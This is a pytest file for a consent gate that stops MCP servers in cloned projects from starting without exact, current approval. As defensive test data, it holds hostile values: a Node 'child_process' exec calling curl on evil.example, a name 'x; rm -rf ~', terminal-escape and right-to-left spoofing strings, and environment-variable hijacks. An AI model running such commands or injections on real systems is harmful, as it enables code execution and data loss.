"""Nothing of a project is started without a person's consent to exactly that, and not when it changed since."""

from __future__ import annotations

import json
import os
import pty
import re
import shlex
import stat
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from mcp_selfcheck import approvals, asking, consent, discover, guard, redact
from mcp_selfcheck.clients import CLIENTS as CLIENTS_TABLE
from mcp_selfcheck.model import Secret, Source, Target
from tests.lab import LAB, NEEDS, PROGRAM, ROOT

SERVER = (ROOT / "src" / "mcp_selfcheck" / "demo_servers" / "hello.py").read_text()
MARKS = "import os; open(os.environ['MARK'], 'a').write('started\\n')\n"


@dataclass
class Project:
    """A cloned repository with a `.mcp.json`, and a home that approved nothing. `mark` exists once the server ran."""

    root: Path

    def __post_init__(self) -> None:
        for name in ("home", "repo", "bin", "other"):
            (self.root / name).mkdir()
        (self.repo / "server.py").write_text(MARKS + SERVER)
        self.link = self.root / "bin" / "runner"
        self.link.symlink_to(sys.executable)
        self.write()

    @property
    def repo(self) -> Path:
        return self.root / "repo"

    @property
    def mark(self) -> Path:
        return self.root / "mark"

    @property
    def state(self) -> Path:
        return self.root / "home" / ".local" / "state" / "mcp-selfcheck" / "approvals.json"

    def entry(self, **changes: Any) -> dict[str, Any]:
        env = {"MARK": str(self.mark), "API_KEY": "hunter2hunter2", "PYTHONPATH": sys.path[-1]}
        return {"command": "runner", "args": ["server.py"], "env": env, **changes}

    def write(self, **changes: Any) -> None:
        file = self.repo / ".mcp.json"
        file.write_text(json.dumps({"mcpServers": {"weather": self.entry(**changes)}}))

    def env(self, **more: str) -> dict[str, str]:
        path = f"{self.root}/bin:{os.environ['PATH']}"
        return {"PATH": path, "HOME": str(self.root / "home"), **more}

    def run(self, *args: str, say: str | None = None, **env: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-c", PROGRAM, *args], env=self.env(**env), cwd=self.repo, capture_output=True, text=True,
            input=say, timeout=60,
        )  # fmt: skip

    def diagnose(self, **env: str) -> dict[str, Any]:
        done = self.run("diagnose", "weather", "--json", "--timeout", "10", **env)
        report: dict[str, Any] = json.loads(done.stdout)["servers"][0]
        assert done.returncode == {"not_checked": 3, "healthy": 0, "broken": 1}[report["verdict"]]
        return report

    def why(self, report: dict[str, Any]) -> str:
        assert report["verdict"] == "not_checked" and not self.mark.exists()
        return next(str(e["value"]) for e in report["evidence"] if e["key"] == "config.consent")


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path)


# --- on the command line ----------------------------------------------------------------------------------------------
def test_a_project_is_read_and_not_started_until_it_is_approved(project: Project) -> None:
    assert "mcp-selfcheck approve weather" in project.why(project.diagnose())
    assert not project.state.exists()
    refused = project.run("approve", "weather", say="y\n")
    assert refused.returncode == 2 and "--yes" in refused.stderr and not project.state.exists()
    done = project.run("approve", "weather", "--yes")
    assert done.returncode == 0 and done.stdout.startswith("approved: ")
    assert os.path.realpath(sys.executable) in done.stderr and '"server.py"' in done.stderr
    assert "hunter2" not in done.stdout + done.stderr + project.state.read_text()
    assert stat.S_IMODE(project.state.stat().st_mode) == 0o600
    assert stat.S_IMODE(project.state.parent.stat().st_mode) == 0o700
    assert [f.name for f in project.state.parent.iterdir()] == ["approvals.json"]
    assert project.diagnose()["verdict"] == "healthy" and project.mark.exists()


@pytest.mark.parametrize(("typed", "code"), [("y\n", 0), ("\n", 3), ("\x04", 3)])
def test_at_a_terminal_only_a_clear_yes_counts(project: Project, typed: str, code: int) -> None:
    ours, theirs = pty.openpty()
    os.write(ours, typed.encode())
    process = subprocess.Popen(
        [sys.executable, "-c", PROGRAM, "approve", "weather"], env=project.env(), cwd=project.repo, stdin=theirs,
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    said, asked = process.communicate(timeout=30)
    os.close(ours)
    os.close(theirs)
    assert process.returncode == code
    assert "Approve exactly this? [y/N]" in asked and "Approve exactly" not in said
    assert project.state.exists() == (code == 0)


def test_approvals_are_listed_and_taken_back(project: Project) -> None:
    project.run("approve", "weather", "--yes")
    listed = json.loads(project.run("approvals", "--json").stdout)["approvals"]
    assert [a["name"] for a in listed] == ["weather"] and listed[0]["file"] == str(project.repo / ".mcp.json")
    assert "weather" in project.run("approvals").stdout
    assert project.run("approvals", "revoke").returncode == 2
    assert project.run("approvals", "revoke", "nobody").returncode == 2
    assert project.run("approvals", "revoke", listed[0]["fingerprint"]).returncode == 0
    assert project.run("approvals").stdout == ""
    assert "approve weather" in project.why(project.diagnose())


def _swap(link: Path, to: str) -> None:
    link.unlink()
    link.symlink_to(to)


def _shadow(p: Project) -> dict[str, str]:
    """Another program of the same name, earlier on the PATH."""
    other = p.root / "other" / "runner"
    other.write_text(f'#!/bin/sh\nexec {sys.executable} "$@"\n')
    other.chmod(0o755)
    return {"PATH": f"{other.parent}:{p.env()['PATH']}"}


def _relink(p: Project) -> None:
    other = p.root / "other" / "python"
    other.write_text(f'#!/bin/sh\nexec {sys.executable} "$@"\n')
    other.chmod(0o755)
    _swap(p.link, str(other))


def _script(p: Project) -> None:
    (p.repo / "evil.py").write_text(MARKS + SERVER)
    (p.repo / "server.py").unlink()
    (p.repo / "server.py").symlink_to("evil.py")


CHANGES: dict[str, tuple[Callable[[Project], Any], str]] = {
    "a link": (_relink, "the command"),
    "the PATH": (_shadow, "the command"),
    "the command": (lambda p: p.write(command=sys.executable), "the command"),
    "an argument": (lambda p: p.write(args=["server.py", "--evil"]), "its arguments"),
    "the script's link": (_script, "what its arguments point to"),
    "a variable more": (lambda p: p.write(env={**p.entry()["env"], "NODE_OPTIONS": "-r x"}), "the environment"),
    "a steering value": (lambda p: p.write(env={**p.entry()["env"], "PYTHONPATH": "/x"}), "the environment"),
    "a URL instead": (lambda p: (p.repo / ".mcp.json").write_text(
        json.dumps({"mcpServers": {"weather": {"type": "http", "url": "http://127.0.0.1:9/mcp"}}})), "the URL"),
}  # fmt: skip


@pytest.mark.parametrize("what", ["a link", "the PATH"])
def test_a_change_after_the_approval_ends_it_and_is_named(project: Project, what: str) -> None:
    project.run("approve", "weather", "--yes")
    change, named = CHANGES[what]
    env = change(project)
    why = project.why(project.diagnose(**(env if isinstance(env, dict) else {})))
    assert named in why and "approve weather" in why


def test_a_damaged_file_is_reported_and_approves_nothing(project: Project) -> None:
    project.run("approve", "weather", "--yes")
    project.state.write_bytes(b"{")
    assert "damaged" in project.why(project.diagnose())
    listed = project.run("approvals")
    assert listed.returncode == 2 and "damaged" in listed.stderr and listed.stdout == ""
    again = project.run("approve", "weather", "--yes")
    assert again.returncode == 0 and "damaged" in again.stderr
    assert len(json.loads(project.state.read_text())["approvals"]) == 1


def test_user_entries_need_no_approval(project: Project) -> None:
    (project.root / "home" / ".cursor").mkdir()
    (project.root / "home" / ".cursor" / "mcp.json").write_text(json.dumps({"mcpServers": {"own": project.entry()}}))
    done = project.run("approve", "own", "--yes")
    assert done.returncode == 2 and "no approval" in done.stderr


# --- at the moment of the start ---------------------------------------------------------------------------------------
@pytest.fixture
def here(project: Project, monkeypatch: pytest.MonkeyPatch) -> Project:
    for name, value in project.env().items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("XDG_STATE_HOME", raising=False)
    monkeypatch.chdir(project.repo)
    return project


def _target() -> Target:
    return next(t for t in discover() if t.name == "weather")


PLACES = sorted(
    {
        p.path
        for c in CLIENTS_TABLE
        for p in c.configs
        if "{PROJECT}" in p.path and "linux" in p.systems and not p.path.endswith(".xml")
    }
    | {"{PROJECT}/.claude/mcp.json"}
)


def test_every_place_in_a_project_is_a_projects() -> None:
    for client in CLIENTS_TABLE:
        assert all(p.scope in ("project", "local") for p in client.configs if "{PROJECT}" in p.path), client.id


@pytest.mark.parametrize("place", PLACES)
def test_whatever_lies_in_the_project_waits(here: Project, place: str) -> None:
    (here.repo / ".mcp.json").unlink()
    (here.root / "home" / ".claude").mkdir()
    file = Path(place.replace("{PROJECT}", str(here.repo)).replace("*", "some"))
    file.parent.mkdir(parents=True, exist_ok=True)
    if file.suffix == ".toml":
        file.write_text('[mcp_servers.weather]\ncommand = "runner"\n')
    else:  # JSON is YAML too
        keys = ("mcpServers", "servers", "context_servers", "mcp")
        entry = (
            {"command": ["runner"], "type": "local"}
            if "opencode" in place
            else {"name": "weather", "command": "runner"}
        )
        every: dict[str, Any] = {k: {"weather": entry} for k in keys}
        if place.startswith("{PROJECT}/.continue"):
            every["mcpServers"] = [entry]
        every["mcp"]["servers"] = {"weather": entry} if ".vscode" in place else {}
        file.write_text(json.dumps(every))
    found = [t for t in discover() if t.name == "weather" and t.source.file == str(file)]
    assert found and all(consent.needed(t) and consent.refusal(t) for t in found), found


@pytest.mark.parametrize("text", [b"", b"[]", b"{", b'{"x": 1}', b"\xff", b'{"approvals": {"x": 1}}', b"[" * 100_000])
def test_damage_of_any_kind_approves_nothing(here: Project, text: bytes) -> None:
    consent.approve(_target())
    assert consent.refusal(_target()) is None
    here.state.chmod(0o666)
    assert "written by others" in (consent.refusal(_target()) or "")
    here.state.chmod(0o600)
    here.state.write_bytes(text)
    assert "damaged" in (consent.refusal(_target()) or "") and not approvals.read().entries


@pytest.mark.parametrize("what", CHANGES)
def test_any_change_ends_an_approval_and_is_named(here: Project, monkeypatch: pytest.MonkeyPatch, what: str) -> None:
    consent.approve(_target())
    here.write(env={**here.entry()["env"], "API_KEY": "another-key-now"})
    assert consent.refusal(_target()) is None, "a new value of an ordinary variable is no change"
    change, named = CHANGES[what]
    env = change(here)
    for name, value in (env if isinstance(env, dict) else {}).items():
        monkeypatch.setenv(name, value)
    assert named in (consent.refusal(_target()) or "")


def test_another_folder_ends_an_approval(here: Project) -> None:
    target = replace(_target(), client="cursor", cwd=str(here.repo))
    consent.approve(target)
    assert consent.waits(target) is None
    assert "the working directory" in (consent.waits(replace(target, cwd="/")) or "")


@pytest.mark.parametrize("what", [k for k in CHANGES if k != "the PATH"])
def test_a_change_between_the_look_and_the_start_stops_the_start(here: Project, what: str) -> None:
    target = _target()
    consent.approve(target)
    assert consent.refusal(target) is None
    start = (str(here.link), ["runner", "server.py"], str(here.repo))
    with consent.under(target):
        consent.check(*start)
        CHANGES[what][0](here)
        with pytest.raises(consent.WithdrawnError):
            consent.check(*start)


def test_an_approval_that_is_taken_back_meanwhile_stops_the_start(here: Project) -> None:
    target = _target()
    consent.approve(target)
    start = (str(here.link), ["runner", "server.py"], str(here.repo))
    with consent.under(target):
        approvals.revoke("weather")
        with pytest.raises(consent.WithdrawnError, match="approve weather"):
            consent.check(*start)


def test_only_the_approved_command_is_started(here: Project) -> None:
    target = _target()
    consent.approve(target)
    with consent.under(target):
        assert consent.same("/bin/sh", ["/bin/sh", str(here.link), "server.py"], None)  # execvp(3), a text without #!
        for path, argv, folder in (
            ("/bin/sh", ["runner", "server.py"], None), (str(here.link), ["runner"], None),
            (str(here.link), ["runner", "server.py", "-i"], None), (str(here.link), ["runner", "server.py"], "/"),
        ):  # fmt: skip
            with pytest.raises(consent.WithdrawnError, match="only the approved command"):
                consent.check(path, argv, folder)


@pytest.mark.parametrize(("trust", "pending"), [(True, False), (False, True)])
def test_a_repository_that_is_not_trusted_cannot_approve_itself(here: Project, trust: bool, pending: bool) -> None:
    """What Claude Code says of it; for us neither is a consent."""
    state = {"projects": {str(here.repo): {"hasTrustDialogAccepted": trust}}}
    (here.root / "home" / ".claude.json").write_text(json.dumps(state))
    (here.repo / ".claude").mkdir()
    (here.repo / ".claude" / "settings.json").write_text('{"enableAllProjectMcpServers": true}')
    target = _target()
    assert any(p.kind == "pending-approval" for p in target.problems) == pending
    assert consent.refusal(target) is not None


# --- what a person is shown -------------------------------------------------------------------------------------------
def test_the_question_is_whole_and_harmless(here: Project) -> None:
    evil = "x" * 3000 + "\x1b]0;evil\x07\x1b[2K\u202egnp.exe\u200b\r\n  program     /usr/bin/safe"
    code = "require('child_process').exec('curl evil.example')"
    here.write(args=["-e", f"a={code}", evil, "--token", "abcdefgh-secret", "\\x41"])
    target = _target()
    said = asking.question(target, consent.deed(target))
    assert "x" * 3000 in said and "gnp.exe" in said and "evil" in said and "curl evil.example" in said
    assert "abcdefgh-secret" not in said and "15 characters, hidden" in said
    assert '"\\\\x41"' in said  # a backslash that is there is told from one that spells something
    assert redact.visible(said) == said and "\r" not in said
    assert len([line for line in said.splitlines() if line.lstrip().startswith("program")]) == 1


# --- over MCP ---------------------------------------------------------------------------------------------------------
CLIENTS = [("v1", "mcp1"), ("legacy", "mcp2"), ("modern", "mcp2")]
NOES = {"v1": ("decline",), "legacy": ("cancel", "none"), "modern": ("decline", "none")}


def ask(p: Project, client: tuple[str, str], reply: str, meanwhile: str = "", **arguments: Any) -> dict[str, Any]:
    mode, sdk = client
    if not NEEDS[sdk][0]():
        pytest.skip(NEEDS[sdk][1])
    argv = [str(LAB / sdk / "bin" / "python"), str(ROOT / "tests" / "consent_client.py"), mode, reply]
    done = subprocess.run(
        [*argv, sys.executable, "-c", PROGRAM, "serve"], input=json.dumps(arguments or {"server": "weather"}), text=True,
        env=p.env(**({"MEANWHILE": meanwhile} if meanwhile else {})), cwd=p.repo, capture_output=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    said: dict[str, Any] = json.loads(done.stdout)
    return said


@pytest.mark.parametrize("client", CLIENTS, ids=lambda c: c[0])
def test_the_user_is_asked_where_the_client_can(project: Project, client: tuple[str, str]) -> None:
    """In both eras: elicitation/create, and the input-required round trip."""
    for reply in NOES[client[0]]:
        said = ask(project, client, reply)
        assert len(said["asked"]) == (0 if reply == "none" else 1)
        assert "approve weather" in project.why(said["report"]["servers"][0])
        assert "mcp-selfcheck approve weather" in re.sub(r"\s+", " ", said["text"])
    said = ask(project, client, "accept")
    question = said["asked"][0]
    assert os.path.realpath(sys.executable) in question and '"server.py"' in question and str(project.repo) in question
    assert "hunter2" not in json.dumps(said)
    assert said["report"]["servers"][0]["verdict"] == "healthy" and project.mark.exists()
    assert not project.state.exists(), "accepted for once, and kept"


@pytest.mark.parametrize("client", CLIENTS[2:], ids=lambda c: c[0])
def test_what_is_remembered_is_not_asked_again(project: Project, client: tuple[str, str]) -> None:
    assert ask(project, client, "remember")["asked"]
    assert not ask(project, client, "decline")["asked"]
    assert project.diagnose()["verdict"] == "healthy"


@pytest.mark.parametrize("client", CLIENTS[1:], ids=lambda c: c[0])
def test_the_config_changes_while_the_user_reads(project: Project, client: tuple[str, str]) -> None:
    """The answer counts for what was shown: the start is refused, or the changed command is asked about."""
    file = shlex.quote(str(project.repo / ".mcp.json"))
    said = ask(project, client, "accept", meanwhile=f"sed -i 's/server.py/evil.py/' {file}")
    if client[0] == "modern":
        assert len(said["asked"]) == 2 and '"evil.py"' in said["asked"][1] and '"evil.py"' not in said["asked"][0]
    else:
        assert len(said["asked"]) == 1 and "approve weather" in project.why(said["report"]["servers"][0])
    assert not project.mark.exists()


def test_a_question_about_too_much_is_not_asked(project: Project) -> None:
    project.write(args=["server.py", "y" * 20_000])
    said = ask(project, CLIENTS[1], "accept")
    assert not said["asked"] and "approve weather" in project.why(said["report"]["servers"][0])


def test_a_projects_url_opens_no_host_to_an_agent(here: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    from mcp.server.mcpserver.exceptions import ToolError

    from mcp_selfcheck.server import Desk

    (here.repo / ".mcp.json").write_text(
        json.dumps({"mcpServers": {"x": {"type": "http", "url": "http://10.9.8.7/mcp"}}})
    )
    with pytest.raises(ToolError, match="stands in no config"):
        Desk(()).rules("http://10.9.8.7:22/")
    consent.approve(next(t for t in discover() if t.name == "x"))
    assert Desk(()).rules("http://10.9.8.7/mcp") == guard.GIVEN


def test_a_name_can_be_typed(tmp_path: Path) -> None:
    for name in ("x; rm -rf ~", "-rf", "a'b", "two\nlines", "\x1b[2J"):
        source = Source(file=str(tmp_path / ".mcp.json"), scope="project")
        said = consent.waits(Target(name=name, client="cursor", source=source, transport="stdio", command="x",
                                    args=(Secret("s"),))) or ""  # fmt: skip
        words = shlex.split(said.rpartition("mcp-selfcheck approve ")[2])
        assert words[-1] == redact.visible(name).replace("\n", "\\n") and (words[0] == "--") == name.startswith("-")
